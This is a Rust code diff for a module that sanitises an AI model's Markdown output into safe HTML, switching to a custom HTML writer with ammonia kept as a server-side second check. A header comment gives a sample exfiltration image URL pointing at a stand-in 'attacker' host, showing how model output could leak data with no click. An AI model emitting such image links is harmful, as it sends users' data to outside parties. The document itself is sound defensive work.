@@ -1,8 +1,10 @@
-//! Markdown from the model, rendered safely: pulldown-cmark turns it into HTML with any raw HTML
-//! in the source escaped as text, then ammonia keeps only harmless tags, attributes and URL
-//! schemes. Nothing the model writes can put a script, an event handler or a `javascript:` URL
-//! into the page. Runs the same on the server (history) and in the browser (streaming); code
-//! is coloured afterwards, in the browser only (see [`crate::highlight`]).
+//! Markdown from the model, rendered safely: pulldown-cmark parses it and [`safe_html`] writes
+//! only its own harmless tags, with any raw HTML in the source escaped as text and only
+//! http(s), `mailto:` and relative links. Nothing the model writes can put a script, an event
+//! handler or a `javascript:` URL into the page. Runs the same on the server (history) and in
+//! the browser (streaming); on the server ammonia checks the result once more (it is not in the
+//! browser's build, which it would double). Code is coloured afterwards, in the browser only
+//! (see [`crate::highlight`]).
 //!
 //! Nor can it make the browser fetch anything from elsewhere: an image is shown only when it is
 //! on our own origin or inline (`data:image/…`). Any other image becomes a link showing its alt
@@ -10,7 +12,11 @@
 //! send what it read to `![x](https://attacker/?d=…)` with no click. (The page's CSP forbids
 //! such images too; this keeps them readable instead of broken.)
 
-use pulldown_cmark::{CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd, html};
+mod safe_html;
+#[cfg(all(test, feature = "ssr"))]
+mod same_html_tests;
+
+use pulldown_cmark::{CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};
 use url::Url;
 
 use crate::highlight;
@@ -18,9 +24,14 @@ use crate::highlight;
 /// Renders Markdown to sanitised HTML. Code blocks get a copy button, their language as a label,
 /// and (in the browser, just after) colours: see [`highlight`].
 pub fn render(markdown: &str) -> String {
+    finish(render_unchecked(markdown))
+}
+
+/// The HTML of `markdown` as [`safe_html`] writes it, before the server's second check and the
+/// code blocks' frames.
+fn render_unchecked(markdown: &str) -> String {
     let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
     let mut events = Vec::new();
-    let mut code: Option<(String, String)> = None;
     let mut remote: Option<RemoteImage> = None;
     let mut links = 0_usize;
     for event in Parser::new_ext(markdown, options) {
@@ -39,43 +50,36 @@ pub fn render(markdown: &str) -> String {
             }
             continue;
         }
-        match (event, &mut code) {
-            (Event::Start(Tag::Image { dest_url, .. }), None) if !is_local_image(&dest_url) => {
+        match event {
+            Event::Start(Tag::Image { dest_url, .. }) if !is_local_image(&dest_url) => {
                 remote = Some(RemoteImage { url: dest_url.into_string(), alt: String::new(), nested: 0 });
             }
-            (event @ Event::Start(Tag::Link { .. }), None) => {
+            event @ Event::Start(Tag::Link { .. }) => {
                 links += 1;
                 events.push(event);
             }
-            (event @ Event::End(TagEnd::Link), None) => {
+            event @ Event::End(TagEnd::Link) => {
                 links = links.saturating_sub(1);
                 events.push(event);
             }
-            (Event::Start(Tag::CodeBlock(kind)), _) => {
-                let language = match kind {
-                    CodeBlockKind::Fenced(info) => {
-                        info.split_whitespace().next().unwrap_or_default().to_owned()
-                    }
-                    CodeBlockKind::Indented => String::new(),
-                };
-                code = Some((language, String::new()));
-            }
-            (Event::Text(text), Some((_, body))) => body.push_str(&text),
-            (Event::End(TagEnd::CodeBlock), Some(_)) => {
-                let (language, body) = code.take().unwrap_or_default();
-                if !language.is_empty() {
+            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))) => {
+                if info.split_whitespace().next().is_some() {
                     highlight::schedule();
                 }
-                events.push(Event::Html(CowStr::from(highlight::block(&language, &body))));
+                events.push(Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))));
             }
-            // Raw HTML becomes visible text, never markup.
-            (Event::Html(html) | Event::InlineHtml(html), _) => events.push(Event::Text(html)),
-            (other, _) => events.push(other),
+            // Raw HTML becomes visible text, never markup ([`safe_html`] holds to that too).
+            Event::Html(html) | Event::InlineHtml(html) => events.push(Event::Text(html)),
+            other => events.push(other),
         }
     }
-    let mut unsafe_html = String::with_capacity(markdown.len() * 3 / 2);
-    html::push_html(&mut unsafe_html, events.into_iter());
-    clean(&unsafe_html)
+    safe_html::write(events)
+}
+
+/// On the server, ammonia checks the HTML once more; then our own, fixed markup goes around code
+/// blocks (after the check: the model's text can only ever be inside `<pre>`, escaped).
+fn finish(html: String) -> String {
+    frame_code_blocks(&second_check(html))
 }
 
 /// Renders source code as one sanitised block with a copy button, highlighted like a Markdown one.
@@ -83,7 +87,7 @@ pub fn code(language: &str, code: &str) -> String {
     if !language.is_empty() {
         highlight::schedule();
     }
-    clean(&highlight::block(language, code))
+    finish(safe_html::normalise(highlight::block(language, code)))
 }
 
 /// An image from elsewhere, being collected to be shown as a link.
@@ -137,8 +141,11 @@ fn is_data_image(url: &Url) -> bool {
     url.scheme() == "data" && url.path().get(..6).is_some_and(|kind| kind.eq_ignore_ascii_case("image/"))
 }
 
-/// Keeps only harmless tags, attributes and URL schemes, then adds our own markup around code.
-fn clean(unsafe_html: &str) -> String {
+/// Defence in depth on the server: ammonia keeps only harmless tags, attributes and URL schemes.
+/// [`safe_html`] writes nothing it would change (a test holds the two to that, so server and
+/// browser HTML stay identical for hydration); it is here in case that ever stops being true.
+#[cfg(feature = "ssr")]
+fn second_check(html: String) -> String {
     let clean = ammonia::Builder::default()
         // `data:` only for an image's inline bytes (the filter below drops it everywhere else).
         .url_schemes(["http", "https", "mailto", "data"].into_iter().collect())
@@ -152,11 +159,18 @@ fn clean(unsafe_html: &str) -> String {
         .add_tag_attributes("span", ["class"])
         .add_tag_attributes("input", ["type", "checked", "disabled"])
         .add_tags(["input"])
-        .clean(unsafe_html)
+        .clean(&html)
         .to_string();
-    // Our own, fixed markup around code blocks, added after sanitising: the model's text can
-    // only ever be inside <pre>, escaped.
-    frame_code_blocks(&clean)
+    if clean != html {
+        tracing::warn!("ammonia changed rendered Markdown; the browser's HTML will differ");
+    }
+    clean
+}
+
+/// In the browser the HTML is used as written: see the server's [`second_check`].
+#[cfg(not(feature = "ssr"))]
+fn second_check(html: String) -> String {
+    html
 }
 
 /// Puts every code block in a frame with its language's label (when it has one) and a "Copy"
